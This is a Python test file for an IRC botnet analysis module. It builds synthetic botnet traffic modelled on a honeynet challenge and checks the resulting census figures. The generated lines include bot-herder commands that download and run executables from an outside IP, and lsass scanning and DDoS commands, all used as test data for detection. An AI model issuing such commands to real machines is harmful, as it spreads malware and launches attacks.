"""IRC sessions and botnet census (honeysift.analysis.irc) against exact, independently known figures.

The synthetic conversations are built in the image of Scan of the Month 27 (the judges' write-up):
a refused server, a silent one, one answering 433 then ERROR (Connection Timed Out), and the
botnet server with the write-up's LUSERS lines, a 3,457-nick NAMES reply over many 353 lines and
thousands of JOIN/QUIT lines. Every expected figure is computed here from what the generator
wrote (plain Python sets and counters), never from the analysis. The real traces (irc-basic,
irc-dcc-send, irc-353) are reassembled with the project's reader and reassembler and compared with
Zeek's irc.log/conn.log and with the lines the traces carry.
"""

from __future__ import annotations

import ipaddress
import json
import random
import re
from bisect import bisect_right
from collections import Counter, defaultdict
from dataclasses import dataclass, field
from pathlib import Path

import numpy as np
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import honeysift
from honeysift.analysis.irc import (
    IrcConversation,
    IrcReport,
    analyze_irc,
    bot_command_rule,
    conversation_from_streams,
    text,
)
from honeysift.capture.table import SYN, halves_to_addr
from honeysift.report.irc_text import render_irc
from honeysift.streams.tcp import reassemble_rows
from tests.conftest import CORPUS

HP = "172.16.134.191"
BOT = b"rgdiuggac"
BOT2 = b"rgdnew"
CHAN = b"#xb0tn3tx"
ODD = b"#b\xf6tn\xe9t"  # Latin-1 bytes: not valid UTF-8
SERVER = "209.196.44.172"
SV = b":irc5.aol.com"
OWNER = b"h4x0r!~h4x0r@80.58.22.147"
T0 = 1046822400.0  # 2003-03-05T00:00:00Z
NAMES_SIZE = 3457
WRITEUP_LUSERS = [
    b":irc5.aol.com 251 rgdiuggac :There are 0 users and 4752 invisible on 4 servers",
    b":irc5.aol.com 252 rgdiuggac 1 :IRC Operators online",
    b":irc5.aol.com 254 rgdiuggac 4 :channels formed",
    b":irc5.aol.com 255 rgdiuggac :I have 346 clients and 1 servers",
    b":irc5.aol.com 265 rgdiuggac :Current local  users: 346  Max: 348",
    b":irc5.aol.com 266 rgdiuggac :Current global users: 4752  Max: 4765",
    b":irc5.aol.com 250 rgdiuggac :Highest connection count: 349 (348 clients) "
    b"(378 since server was (re)started)",
]
_ISPS = (b"cable.netvista.net", b"dsl.telenova.de", b"adsl.spnet.es", b"dial.kornet.co.kr")


class Direction:
    """One direction's bytes cut into segments, with the frame and time of each segment."""

    def __init__(self, rng: random.Random, frames: list[int]) -> None:
        self.rng = rng
        self.frames_counter = frames
        self.data = bytearray()
        self.offsets: list[int] = []
        self.frames: list[int] = []
        self.ts: list[float] = []
        self.lines = 0

    def send(self, t: float, lines: list[bytes]) -> list[tuple[float, int]]:
        """Append lines sent at time t (in random-sized segments); (time, frame) of each line."""
        starts = []
        blob = bytearray()
        for ln in lines:
            starts.append(len(self.data) + len(blob))
            blob += ln + b"\r\n"
        pos, base = 0, len(self.data)
        while pos < len(blob):
            self.frames_counter[0] += 1
            self.offsets.append(base + pos)
            self.frames.append(self.frames_counter[0])
            self.ts.append(t)
            pos += self.rng.randint(1, 1400)  # often cuts a line in two
        self.data += blob
        self.lines += len(lines)
        return [(t, self.frames[bisect_right(self.offsets, s) - 1]) for s in starts]


def conversation(uid, server, port, client_port, state, c2s=None, s2c=None, start=T0, end=None):
    def arrays(d: Direction | None):
        if d is None:
            return b"", np.zeros(0, np.int64), np.zeros(0, np.uint64), np.zeros(0)
        return (
            bytes(d.data),
            np.array(d.offsets, np.int64),
            np.array(d.frames, np.uint64),
            np.array(d.ts, np.float64),
        )

    cd, co, cf, ct = arrays(c2s)
    sd, so, sf, stt = arrays(s2c)
    return IrcConversation(
        uid=uid,
        client=HP,
        client_port=client_port,
        server=server,
        server_port=port,
        start_ts=start,
        end_ts=end if end is not None else start + 1.0,
        conn_state=state,
        to_server=cd,
        from_server=sd,
        to_server_offsets=co,
        to_server_frames=cf,
        to_server_ts=ct,
        from_server_offsets=so,
        from_server_frames=sf,
        from_server_ts=stt,
    )


@dataclass
class Truth:
    """What the generator wrote, per folded channel name."""

    join_lines: Counter = field(default_factory=Counter)
    quit_lines: Counter = field(default_factory=Counter)
    part_lines: Counter = field(default_factory=Counter)
    nick_lines: Counter = field(default_factory=Counter)
    kick_lines: Counter = field(default_factory=Counter)
    join_hosts_raw: dict = field(default_factory=lambda: defaultdict(list))
    quit_hosts_raw: dict = field(default_factory=lambda: defaultdict(list))
    nicks: dict = field(default_factory=lambda: defaultdict(set))
    members: Counter = field(default_factory=Counter)
    commands: dict = field(default_factory=lambda: defaultdict(list))  # (t, frame, sender, text)
    dcc: list = field(default_factory=list)
    names_main: int = 0
    present: set = field(default_factory=set)
    pings: int = 0
    pongs: int = 0
    first_join: tuple[float, int] | None = None
    odd_join: tuple[float, int] | None = None


class Pool:
    """Nicks present in the channel; pop() takes a random one (deterministic for a seed)."""

    def __init__(self, rng: random.Random, items) -> None:
        self.rng = rng
        self.items = list(items)

    def __bool__(self) -> bool:
        return bool(self.items)

    def add(self, x: bytes) -> None:
        self.items.append(x)

    def pop(self) -> bytes:
        i = self.rng.randrange(len(self.items))
        self.items[i], self.items[-1] = self.items[-1], self.items[i]
        return self.items.pop()


def _host(rng: random.Random) -> bytes:
    a, b, c, d = (rng.randrange(1, 255) for _ in range(4))
    r = rng.random()
    if r < 0.3:
        return f"{a}.{b}.{c}.{d}".encode()  # IP literal
    if r < 0.7:
        return f"{a}-{b}-{c}-{d}.".encode() + rng.choice(_ISPS)
    return f"host{a}x{b}.".encode() + rng.choice(_ISPS)


def _case(rng: random.Random, h: bytes) -> bytes:
    out = bytes(c - 32 if 97 <= c <= 122 and rng.random() < 0.5 else c for c in h)
    return out if out != h else h.upper()


def build_main(seed: int = 27, events: int = 6000) -> tuple[IrcConversation, Truth]:
    """The botnet session: registration, LUSERS, NAMES, then `events` JOIN/QUIT lines."""
    rng = random.Random(seed)
    frames = [1000]
    c2s, s2c = Direction(rng, frames), Direction(rng, frames)
    tr = Truth()
    main, odd = CHAN.lower(), ODD.lower()
    me_host = HP.encode()
    t = T0 + 60
    s2c.send(
        t, [b"NOTICE AUTH :*** Looking up your hostname...", b"NOTICE AUTH :*** Checking Ident"]
    )
    c2s.send(t + 0.2, [b"PASS b0tp4ss", b"NICK " + BOT, b"USER " + BOT + b" 0 0 :" + BOT])
    t += 4
    s2c.send(
        t,
        [
            b"NOTICE AUTH :*** No Ident response",
            SV
            + b" 001 rgdiuggac :Welcome to the Internet Relay Network rgdiuggac!rgdiuggac@"
            + me_host,
            SV + b" 002 rgdiuggac :Your host is irc5.aol.com, running version 2.8/hybrid-6.3.1",
            SV + b" 005 rgdiuggac PREFIX=(ov)@+ CHANTYPES=#& :are supported by this server",
            *WRITEUP_LUSERS,
            SV + b" 375 rgdiuggac :- irc5.aol.com Message of the Day - ",
            SV + b" 376 rgdiuggac :End of /MOTD command.",
        ],
    )
    c2s.send(t + 0.5, [b"JOIN " + CHAN + b" k3yz"])
    t += 1
    # NAMES: NAMES_SIZE distinct nicks including the bot and the owner, over many 353 lines.
    nick_host: dict[bytes, bytes] = {}
    used: set[bytes] = {BOT, b"h4x0r"}
    while len(nick_host) < NAMES_SIZE - 2:
        n = f"n{rng.randrange(10**9):09d}".encode()
        if n not in used:
            used.add(n)
            nick_host[n] = _host(rng)
    tokens = [b"@h4x0r", BOT] + [
        (b"@" if i < 3 else b"+" if i < 10 else b"") + n for i, n in enumerate(nick_host)
    ]
    rng.shuffle(tokens)
    head = SV + b" 353 rgdiuggac @ " + CHAN + b" :"
    names_lines, cur = [], []
    for tok in tokens:
        if len(head) + sum(len(x) + 1 for x in cur) + len(tok) > 480:
            names_lines.append(head + b" ".join(cur) + b" ")
            cur = []
        cur.append(tok)
    names_lines.append(head + b" ".join(cur))
    topic = b".advscan lsass 200 5 0 -r -s"
    burst = [
        b":" + BOT + b"!" + BOT + b"@" + me_host + b" JOIN :" + CHAN,
        SV + b" 332 rgdiuggac " + CHAN + b" :" + topic,
        SV + b" 333 rgdiuggac " + CHAN + b" h4x0r 1046650000",
        *names_lines,
        SV + b" 366 rgdiuggac " + CHAN + b" :End of /NAMES list.",
    ]
    at = s2c.send(t, burst)
    tr.first_join = at[0]
    tr.join_lines[main] += 1
    tr.join_hosts_raw[main].append(me_host)
    tr.nicks[main] |= {BOT, b"h4x0r"} | {n.lower() for n in nick_host}
    tr.commands[main].append((at[1][0], at[1][1], b"irc5.aol.com", topic))
    tr.names_main = len(names_lines)
    tr.members[main] = NAMES_SIZE
    present = Pool(rng, nick_host)  # quit candidates (not the bot, not the owner)
    in_chans = [main]
    me = BOT
    host_pool = list(nick_host.values())
    pending: list[tuple[bytes, object]] = []  # (line, callback(time, frame))

    def flush(now: float) -> None:
        nonlocal pending
        if pending:
            stamps = s2c.send(now, [ln for ln, _ in pending])
            for (_, cb), (tt, fr) in zip(pending, stamps, strict=True):
                if cb:
                    cb(tt, fr)
            pending = []

    def cmd(channels, sender, text_):
        return lambda tt, fr: [tr.commands[c].append((tt, fr, sender, text_)) for c in channels]

    specials = {
        100: "download",
        200: "login",
        300: "chat",
        350: "update",
        400: "dcc",
        450: "mode",
        500: "topic",
        600: "kick",
        700: "part",
        800: "nick",
        900: "botnick",
        1000: "odd",
        1100: "dots",
        1200: "ctcp",
        1300: "lusers",
    }
    now = t + 10
    for i in range(events):
        now += rng.uniform(0.01, 3.0)
        if len(pending) >= 5 or rng.random() < 0.3:
            flush(now)
        if present and rng.random() < 0.5:
            n = present.pop()
            h = nick_host[n]
            if rng.random() < 0.1:
                h = _case(rng, h)
            pending.append((b":" + n + b"!" + n[:8] + b"@" + h + b" QUIT :Ping timeout", None))
            for c in in_chans:
                tr.quit_lines[c] += 1
                tr.quit_hosts_raw[c].append(h)
                tr.nicks[c].add(n.lower())
                tr.members[c] -= 1
        else:
            n = f"j{rng.randrange(10**9):09d}".encode()
            while n in used:
                n = f"j{rng.randrange(10**9):09d}".encode()
            used.add(n)
            if rng.random() < 0.35:
                h = rng.choice(host_pool)
                if rng.random() < 0.2:
                    h = _case(rng, h)
            else:
                h = _host(rng)
                host_pool.append(h)
            nick_host[n] = h
            present.add(n)
            chan = CHAN.upper() if rng.random() < 0.05 else CHAN
            colon = b":" if rng.random() < 0.5 else b""
            pending.append((b":" + n + b"!" + n[:8] + b"@" + h + b" JOIN " + colon + chan, None))
            tr.join_lines[main] += 1
            tr.join_hosts_raw[main].append(h)
            tr.nicks[main].add(n.lower())
            tr.members[main] += 1
        if i % 40 == 39:
            pending.append((b"PING :irc5.aol.com", None))
            flush(now)
            c2s.send(now + 0.1, [b"PONG :irc5.aol.com"])
            tr.pings += 1
            tr.pongs += 1
        kind = specials.get(i)
        owner = b":" + OWNER
        if kind == "download":
            txt = b"!download http://65.110.39.20/x.exe c:\\x.exe 1"
            pending.append((owner + b" PRIVMSG " + CHAN + b" :" + txt, cmd([main], OWNER, txt)))
        elif kind == "login":
            txt = b"!login s3cr3t"  # private to the bot: counts for the bot's channels
            pending.append(
                (owner + b" PRIVMSG " + me + b" :" + txt, cmd(list(in_chans), OWNER, txt))
            )
        elif kind == "chat":
            pending.append((owner + b" PRIVMSG " + CHAN + b" :hello all, update later", None))
        elif kind == "update":
            txt = b"update http://65.110.39.20/y.exe 2"  # a bot verb without a prefix
            pending.append((owner + b" PRIVMSG " + CHAN + b" :" + txt, cmd([main], OWNER, txt)))
        elif kind == "dcc":
            ip = int(ipaddress.IPv4Address("65.110.39.20"))
            body = b"\x01DCC SEND update.exe %d 4455 40960\x01" % ip
            sender = b"warez!~w@" + host_pool[3]
            pending.append(
                (
                    b":" + sender + b" PRIVMSG " + me + b" :" + body,
                    lambda tt, fr, sender=sender: tr.dcc.append((tt, fr, sender)),
                )
            )
        elif kind == "mode":
            pending.append((owner + b" MODE " + CHAN + b" +lk 50 n3wk3y", None))
        elif kind == "topic":
            txt = b".scanall"
            pending.append((owner + b" TOPIC " + CHAN + b" :" + txt, cmd([main], OWNER, txt)))
        elif kind == "kick" and present:
            victim = present.pop()
            pending.append((owner + b" KICK " + CHAN + b" " + victim + b" :clone", None))
            tr.kick_lines[main] += 1
            tr.nicks[main].add(victim.lower())
            tr.members[main] -= 1
        elif kind == "part" and present:
            leaver = present.pop()
            pending.append((b":" + leaver + b"!x@" + nick_host[leaver] + b" PART " + CHAN, None))
            tr.part_lines[main] += 1
            tr.nicks[main].add(leaver.lower())
            tr.members[main] -= 1
        elif kind == "nick" and present:
            old = present.pop()
            new = b"renamed" + old[1:]
            present.add(new)
            nick_host[new] = nick_host[old]
            pending.append((b":" + old + b"!x@" + nick_host[old] + b" NICK :" + new, None))
            tr.nick_lines[main] += 1
            tr.nicks[main] |= {old.lower(), new.lower()}
        elif kind == "botnick":
            flush(now)
            c2s.send(now + 0.1, [b"NICK " + BOT2])
            pending.append((b":" + me + b"!" + BOT + b"@" + me_host + b" NICK :" + BOT2, None))
            tr.nick_lines[main] += 1
            tr.nicks[main] |= {BOT, BOT2}
            me = BOT2
        elif kind == "odd":
            txt = b".join " + ODD
            pending.append((owner + b" PRIVMSG " + CHAN + b" :" + txt, cmd([main], OWNER, txt)))
            flush(now)
            c2s.send(now + 0.1, [b"JOIN " + ODD])
            now += 0.3
            pending.append((b":" + me + b"!" + BOT + b"@" + me_host + b" JOIN :" + ODD, None))
            pending.append((SV + b" 353 rgdnew = " + ODD + b" :rgdnew @h4x0r lurker", None))
            pending.append((SV + b" 366 rgdnew " + ODD + b" :End of /NAMES list.", None))
            at = s2c.send(now, [ln for ln, _ in pending])
            tr.odd_join = at[-3]
            pending = []
            tr.join_lines[odd] += 1
            tr.join_hosts_raw[odd].append(me_host)
            tr.nicks[odd] |= {BOT2, b"h4x0r", b"lurker"}
            tr.members[odd] = 3
            in_chans.append(odd)
            # A QUIT while in both channels counts for both; a command in the odd channel.
            q = present.pop()
            now += 1
            pending.append((b":" + q + b"!" + q[:8] + b"@" + nick_host[q] + b" QUIT :bye", None))
            for c in in_chans:
                tr.quit_lines[c] += 1
                tr.quit_hosts_raw[c].append(nick_host[q])
                tr.nicks[c].add(q.lower())
                tr.members[c] -= 1
            txt = b".sysinfo"
            pending.append((owner + b" PRIVMSG " + ODD + b" :" + txt, cmd([odd], OWNER, txt)))
            flush(now)
            c2s.send(now + 0.5, [b"PART " + ODD])
            now += 1
            pending.append((b":" + me + b"!" + BOT + b"@" + me_host + b" PART " + ODD, None))
            tr.part_lines[odd] += 1
            tr.members[odd] -= 1
            in_chans.remove(odd)
            flush(now)
        elif kind == "dots":
            pending.append((owner + b" NOTICE " + CHAN + b" :... brb", None))
        elif kind == "ctcp":
            pending.append((owner + b" PRIVMSG " + me + b" :\x01VERSION\x01", None))
        elif kind == "lusers":
            flush(now)
            c2s.send(now, [b"LUSERS"])
            now += 0.2
            pending += [
                (SV + b" 251 rgdnew :There are 2 users and 5000 invisible on 4 servers", None),
                (SV + b" 255 rgdnew :I have 350 clients and 1 servers", None),
                (SV + b" 266 rgdnew :Current global users: 5002  Max: 5010", None),
            ]
            flush(now)
    flush(now + 1)
    tr.present = set(present.items) | {BOT2, b"h4x0r"}
    conv = conversation("CMAIN", SERVER, 6667, 1036, "S1", c2s, s2c, start=T0 + 59, end=now + 2)
    conv.first_frame = 1001
    tr.c2s, tr.s2c = c2s, s2c  # type: ignore[attr-defined]
    return conv, tr


def build_attempts() -> list[IrcConversation]:
    rng = random.Random(1)
    frames = [10]
    c2s, s2c = Direction(rng, frames), Direction(rng, frames)
    s2c.send(
        T0 + 30,
        [b"NOTICE AUTH :*** Looking up your hostname...", b"NOTICE AUTH :*** Checking Ident"],
    )
    c2s.send(T0 + 30.2, [b"NICK eohisou", b"USER eohisou 0 0 :eohisou"])
    s2c.send(
        T0 + 37, [b"NOTICE AUTH :*** No Ident response", b"NOTICE AUTH :*** Found your hostname"]
    )
    s2c.send(T0 + 37.1, [b":irc4.aol.com 433 * eohisou :Nickname is already in use."])
    s2c.send(T0 + 70, [f"ERROR :Closing Link: [eohisou@{HP}] (Connection Timed Out)".encode()])
    return [
        conversation("CREF", "63.211.17.228", 6667, 1033, "REJ", start=T0 + 1, end=T0 + 1.6),
        conversation("CSIL", "217.199.175.12", 6667, 1034, "S0", start=T0 + 3, end=T0 + 24),
        conversation(
            "C433", "195.159.47.20", 6667, 1035, "SF", c2s, s2c, start=T0 + 29, end=T0 + 71
        ),
    ]


@pytest.fixture(scope="module")
def scenario() -> tuple[IrcReport, Truth, IrcConversation]:
    main, tr = build_main()
    report = analyze_irc([main, *build_attempts()])
    return report, tr, main


def _net(report: IrcReport, channel: bytes):
    return next(b for b in report.botnets if b.channel.lower() == channel.lower())


# ------------------------------------------------------------------------- the write-up's image
def test_servers_tried_and_outcomes(scenario) -> None:
    report, _, _ = scenario
    d = report.to_dict()
    got = [(s["server"], [a["outcome"] for a in s["attempts"]]) for s in d["servers"]]
    assert got == [
        ("63.211.17.228", ["refused"]),
        ("217.199.175.12", ["no_answer"]),
        ("195.159.47.20", ["closed_by_server"]),
        (SERVER, ["joined"]),
    ]
    s433 = next(s for s in d["sessions"] if s["uid"] == "C433")
    assert s433["error"] == f"Closing Link: [eohisou@{HP}] (Connection Timed Out)"
    assert s433["error_time"] == T0 + 70
    assert s433["nick_in_use"] == ["eohisou"] and s433["nicks"] == ["eohisou"]
    assert {"connected", "nickname_in_use", "closed_by_server"} <= set(s433["facts"])
    assert "registered" not in s433["facts"]
    assert s433["server_names"] == ["irc4.aol.com"]
    assert s433["registration"]["user"]["username"] == "eohisou"
    assert d["servers"][2]["server_names"] == ["irc4.aol.com"]
    ref = next(s for s in d["sessions"] if s["uid"] == "CREF")
    assert ref["outcome"] == "refused" and ref["bytes_to_server"] == ref["bytes_from_server"] == 0


def test_main_session(scenario) -> None:
    report, tr, conv = scenario
    s = next(x for x in report.sessions if x.uid == "CMAIN")
    assert s.outcome == "joined" and {"registered", "joined"} <= set(s.facts)
    assert s.server_names == [b"irc5.aol.com"]
    assert s.password == b"b0tp4ss"
    assert s.user is not None and (s.user.username, s.user.realname) == (BOT, BOT)
    assert s.nicks == [BOT, BOT2] and s.nick == BOT2
    assert [(n.old, n.new) for n in s.nick_changes] == [(BOT, BOT2)]
    assert s.registered_at == T0 + 64
    chans = {c.channel: c for c in s.channels}
    assert set(chans) == {CHAN, ODD}
    assert (
        chans[CHAN].key == b"k3yz" and (chans[CHAN].joined, chans[CHAN].join_frame) == tr.first_join
    )
    assert (chans[ODD].joined, chans[ODD].join_frame) == tr.odd_join and chans[ODD].key is None
    assert [(k.key, k.source) for k in s.keys] == [(b"k3yz", "JOIN"), (b"n3wk3y", "MODE +k")]
    assert s.bytes_to_server == len(conv.to_server) and s.bytes_from_server == len(conv.from_server)
    assert s.lines_to_server == tr.c2s.lines and s.lines_from_server == tr.s2c.lines
    assert s.pings == tr.pings and s.pongs == tr.pongs
    assert s.malformed_lines == 0 and s.unattributed_lines == 0
    d = s.to_dict()
    assert d["channels"][1]["channel"] == "#b\\xf6tn\\xe9t"  # backslashreplace
    assert d["start"] == T0 + 59 and d["client"] == HP and d["server_port"] == 6667


def test_census_figures_exact(scenario) -> None:
    report, tr, _ = scenario
    for chan in (CHAN, ODD):
        b = _net(report, chan)
        f = chan.lower()
        jh = {h.lower() for h in tr.join_hosts_raw[f]}
        qh = {h.lower() for h in tr.quit_hosts_raw[f]}
        assert b.server == SERVER and b.ports == [6667] and b.sessions == ["CMAIN"]
        assert b.join_hosts == len(jh)
        assert b.quit_hosts == len(qh)
        assert b.union_hosts == len(jh | qh)
        assert b.distinct_nicks == len({n.lower() for n in tr.nicks[f]})
        assert b.join_lines == tr.join_lines[f]
        assert b.quit_lines == tr.quit_lines[f]
        assert b.part_lines == tr.part_lines[f]
        assert b.nick_lines == tr.nick_lines[f]
        assert b.kick_lines == tr.kick_lines[f]
        assert b.membership[-1][1] == tr.members[f]
    main = _net(report, CHAN)
    assert main.channel == CHAN  # first spelling kept; JOINs in upper case folded into it
    # the host lists do repeat with another case: folding matters
    raw = tr.join_hosts_raw[CHAN.lower()] + tr.quit_hosts_raw[CHAN.lower()]
    assert len(set(raw)) > main.union_hosts > 4000
    assert main.join_lines + main.quit_lines > 6000
    assert main.membership[-1][1] == len(tr.present)
    assert _net(report, ODD).membership[-1][1] == 1  # 3 in NAMES, one QUIT, the bot's PART


def test_lusers_names_and_bandwidth(scenario) -> None:
    report, tr, _ = scenario
    main = _net(report, CHAN)
    assert len(main.lusers) == 2
    first = main.lusers[0].to_dict()
    assert first["time"] == T0 + 64 and first["server_name"] == "irc5.aol.com"
    expect = {
        "users": 0,
        "invisible": 4752,
        "servers": 4,
        "operators": 1,
        "channels": 4,
        "local_clients": 346,
        "local_servers": 1,
        "local_users": 346,
        "max_local_users": 348,
        "global_users": 4752,
        "max_global_users": 4765,
        "max_connections": 349,
        "max_clients": 348,
        "connections_received": 378,
        "unknown": None,
        "services": None,
    }
    assert {k: first[k] for k in expect} == expect
    second = main.lusers[1]
    assert (second.global_users, second.local_users, second.figures["invisible"]) == (
        5002,
        350,
        5000,
    )
    assert [(n.nicks, n.lines, n.complete) for n in main.names] == [
        (NAMES_SIZE, tr.names_main, True)
    ]
    assert main.names[0].operators == 4 and main.names[0].voiced == 7
    assert [n.nicks for n in _net(report, ODD).names] == [3]
    bw = main.to_dict()["bandwidth_kbps"]
    assert bw["union_hosts"] == main.union_hosts * 56
    assert bw["names_first"] == NAMES_SIZE * 56 and bw["names_max"] == NAMES_SIZE * 56
    assert bw["lusers_global_users"] == 4752 * 56 and bw["lusers_local_users"] == 346 * 56
    again = analyze_irc([build_main()[0]], link_kbps=128.0)
    assert _net(again, CHAN).bandwidth_kbps["names_first"] == NAMES_SIZE * 128


def test_commands_dcc_keys(scenario) -> None:
    report, tr, _ = scenario
    for chan in (CHAN, ODD):
        b = _net(report, chan)
        got = [(c.time, c.frame, c.sender, c.text) for c in b.commands]
        assert got == tr.commands[chan.lower()]
    main = _net(report, CHAN)
    assert [c.kind for c in main.commands] == [
        "332",
        "PRIVMSG",
        "PRIVMSG",
        "PRIVMSG",
        "TOPIC",
        "PRIVMSG",
    ]
    assert [c.rule for c in main.commands].count("verb") == 1
    assert [(c.target, c.verb) for c in main.commands][2] == (BOT, b"login")
    assert len(main.dcc) == 1
    d = main.dcc[0].to_dict()
    ((t, fr, sender),) = tr.dcc
    assert (d["time"], d["frame"], d["sender"]) == (t, fr, sender.decode())
    assert (d["kind"], d["file"], d["address"], d["port"], d["size"]) == (
        "SEND",
        "update.exe",
        "65.110.39.20",
        4455,
        40960,
    )
    assert [(k.key, k.source) for k in main.keys] == [(b"k3yz", "JOIN"), (b"n3wk3y", "MODE +k")]
    assert main.passwords == [b"b0tp4ss"]
    assert [t.text for t in main.topics] == [b".advscan lsass 200 5 0 -r -s", b".scanall"]


def test_json_and_text(scenario) -> None:
    report, _, _ = scenario
    d = json.loads(json.dumps(report.to_dict()))
    for key in ("sessions", "botnets", "servers"):
        assert d[key]
    for s in d["sessions"]:
        for k in (
            "client",
            "client_port",
            "server",
            "server_port",
            "start",
            "end",
            "outcome",
            "nicks",
            "channels",
            "bytes_to_server",
            "bytes_from_server",
        ):
            assert k in s
    for b in d["botnets"]:
        for k in (
            "server",
            "channel",
            "join_hosts",
            "quit_hosts",
            "union_hosts",
            "distinct_nicks",
            "join_lines",
            "quit_lines",
            "lusers",
            "names",
            "commands",
            "bandwidth_kbps",
        ):
            assert k in b
        assert all({"time", "global_users", "local_users"} <= set(x) for x in b["lusers"])
        assert all({"time", "nicks"} <= set(x) for x in b["names"])
        assert all({"time", "sender", "text"} <= set(x) for x in b["commands"])
    assert {b["channel"] for b in d["botnets"]} == {"#xb0tn3tx", "#b\\xf6tn\\xe9t"}
    assert report.to_dict(membership=False)["botnets"][0]["membership"] is None
    out = render_irc(report)
    main = _net(report, CHAN)
    assert "195.159.47.20:6667 (irc4.aol.com)" in out and "Connection Timed Out" in out
    assert "nickname in use" in out and "refused" in out and "no answer" in out
    assert f"{main.union_hosts:,}  union_hosts: distinct hosts in JOIN or QUIT" in out
    assert f"{main.union_hosts * 56:,} kbps" in out
    assert "#b\\xf6tn\\xe9t" in out
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f]", out)


def test_hostile_text_is_escaped_in_render() -> None:
    rng = random.Random(3)
    c2s, s2c = Direction(rng, [0]), Direction(rng, [0])
    c2s.send(T0, [b"NICK bot", b"JOIN #c\x1b[2J"])
    s2c.send(
        T0 + 1,
        [
            b":s.net 001 bot :hi",
            b":bot!u@h JOIN #c\x1b[2J",
            b":evil!u@h\x1b]0;x\x07 PRIVMSG #c\x1b[2J :.ddos \x1b[31mred\r",
        ],
    )
    out = render_irc(analyze_irc([conversation("X", "1.1.1.1", 6667, 5, "S1", c2s, s2c)]))
    assert "\x1b" not in out and "\\x1b[2J" in out and ".ddos" in out


def test_bot_command_rule() -> None:
    assert bot_command_rule(b".advscan lsass 200") == ("prefix", b"advscan")
    assert bot_command_rule(b"\x02!DDOS.SYN 1.2.3.4") == ("prefix", b"ddos.syn")
    assert bot_command_rule(b"exec c:\\x.exe") == ("verb", b"exec")
    assert bot_command_rule(b"... ok") is None
    assert bot_command_rule(b"\x01VERSION\x01") is None
    assert bot_command_rule(b"hello") is None


def test_quit_before_any_channel_is_unattributed_and_unknown_nick() -> None:
    rng = random.Random(4)
    c2s, s2c = Direction(rng, [0]), Direction(rng, [0])
    s2c.send(T0, [b":a!b@c QUIT :x", b":a!b@c JOIN #z", b":d!b@C QUIT :x", b"PING :srv"])
    s = analyze_irc([conversation("Q", "1.1.1.1", 6667, 5, "S1", c2s, s2c)])
    sess = s.sessions[0]
    # the first QUIT has nowhere to go; the second counts for the only channel seen joined
    assert sess.unattributed_lines == 1 and sess.outcome == "connected" and sess.pings == 1
    (b,) = s.botnets
    assert (b.join_lines, b.quit_lines, b.join_hosts, b.quit_hosts, b.union_hosts) == (
        1,
        1,
        1,
        1,
        1,
    )
    assert b.distinct_nicks == 2


def test_closed_during_registration_and_skip_non_irc() -> None:
    rng = random.Random(5)
    c2s, s2c = Direction(rng, [0]), Direction(rng, [0])
    c2s.send(T0, [b"NICK x", b"USER x 0 0 :x"])
    s2c.send(T0 + 1, [b"NOTICE AUTH :*** Looking up your hostname..."])
    h1, h2 = Direction(rng, [0]), Direction(rng, [0])
    h1.send(T0, [b"GET / HTTP/1.1", b"Host: x"])
    h2.send(T0, [b"HTTP/1.1 200 OK"])
    r = analyze_irc(
        [
            conversation("R", "1.1.1.1", 6667, 5, "RSTR", c2s, s2c),
            conversation("H", "2.2.2.2", 6667, 6, "SF", h1, h2),
        ]
    )
    assert [s.outcome for s in r.sessions] == ["closed_during_registration"]
    assert r.skipped == [("H", "payload does not look like IRC")]


# ------------------------------------------------------------------------------- real traces
def _trace(name: str) -> Path:
    d = CORPUS / "traces"
    if not d.is_dir():
        pytest.skip(f"corpus not found at {CORPUS} (set HONEYSIFT_CORPUS)")
    hits = sorted(d.glob(name + ".*"))
    if not hits:
        pytest.skip(f"{name} not in corpus")
    return hits[0]


def conversations_of(path: Path) -> list[IrcConversation]:
    """Group TCP rows per connection (5-tuple) and direction, reassemble, build conversations."""
    cap = honeysift.open(str(path))
    try:
        t = cap.packets()
        tcp = np.nonzero((t.proto == 6) & (t.status == 0))[0]
        conns: dict[tuple, dict[tuple, list[int]]] = {}
        for i in tcp.tolist():
            a = (halves_to_addr(t.src_hi[i], t.src_lo[i]), int(t.sport[i]))
            b = (halves_to_addr(t.dst_hi[i], t.dst_lo[i]), int(t.dport[i]))
            conns.setdefault(tuple(sorted((a, b))), {}).setdefault(a, []).append(i)
        ts_of = {int(f): float(x) for f, x in zip(t.frame.tolist(), t.ts.tolist(), strict=True)}
        out = []
        for n, dirs in enumerate(conns.values()):
            first = min(r[0] for r in dirs.values())
            a = (halves_to_addr(t.src_hi[first], t.src_lo[first]), int(t.sport[first]))
            client = next(
                (
                    k
                    for k, r in dirs.items()
                    if t.tcp_flags[r[0]] & SYN and not t.tcp_flags[r[0]] & 0x10
                ),
                a,
            )
            server = next((k for k in dirs if k != client), None)
            if server is None:
                server = (halves_to_addr(t.dst_hi[first], t.dst_lo[first]), int(t.dport[first]))

            def stream(key, dirs=dirs):
                rows = np.asarray(dirs.get(key, []), np.int64)
                if rows.size == 0:
                    return None
                return reassemble_rows(t, rows, lambda j, rows=rows: cap.payload(t, int(rows[j])))

            allrows = [r for rs in dirs.values() for r in rs]
            flow = {
                "uid": f"C{n}",
                "client": client[0],
                "client_port": client[1],
                "server": server[0],
                "server_port": server[1],
                "start": float(t.ts[min(allrows)]),
                "end": float(t.ts[max(allrows)]),
            }
            out.append(
                conversation_from_streams(flow, stream(client), stream(server), ts_of.__getitem__)
            )
        return out
    finally:
        cap.close()


def zeek_log(name: str, log: str) -> list[dict[str, str]]:
    p = CORPUS / "expected" / name / log
    lines = p.read_text().splitlines()
    cols = next(ln for ln in lines if ln.startswith("#fields")).split("\t")[1:]
    return [dict(zip(cols, ln.split("\t"), strict=True)) for ln in lines if not ln.startswith("#")]


def test_irc_dcc_send_against_zeek() -> None:
    convs = conversations_of(_trace("irc-dcc-send"))
    irc_log = zeek_log("irc-dcc-send", "irc.log")
    conn = {r["uid"]: r for r in zeek_log("irc-dcc-send", "conn.log")}
    r = analyze_irc(convs)
    # Only the IRC connection is IRC; the DCC data connections are skipped.
    assert len(r.sessions) == 1 and len(r.skipped) == 2
    s = r.sessions[0]
    z = irc_log[0]
    zc = conn[z["uid"]]
    assert (s.client, s.client_port, s.server, s.server_port) == (
        z["id.orig_h"],
        int(z["id.orig_p"]),
        z["id.resp_h"],
        int(z["id.resp_p"]),
    )
    assert s.conn_state == zc["conn_state"] == "SF"
    assert (s.bytes_to_server, s.bytes_from_server) == (
        int(zc["orig_bytes"]),
        int(zc["resp_bytes"]),
    )
